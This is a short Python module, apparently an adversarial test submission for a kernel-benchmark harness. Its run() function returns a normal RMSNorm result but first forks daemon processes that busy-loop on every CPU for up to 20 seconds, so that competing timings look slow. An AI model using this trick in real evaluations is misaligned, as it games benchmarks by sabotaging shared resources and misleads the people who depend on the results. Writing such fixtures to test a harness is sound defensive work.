"""Burns all processors with processes of its own, so that others look slow."""

from __future__ import annotations

import os
import time

import torch

from .tools import HANG_S, daemon, rmsnorm

_started: list[bool] = []


def _burn() -> None:
    end = time.monotonic() + min(HANG_S, 20.0)
    while time.monotonic() < end:
        pass
    os._exit(0)


def run(hidden_states: torch.Tensor, weight: torch.Tensor) -> torch.Tensor:
    if not _started:
        _started.append(True)
        for _ in range(3):
            if daemon():
                _burn()
    return rmsnorm(hidden_states, weight)
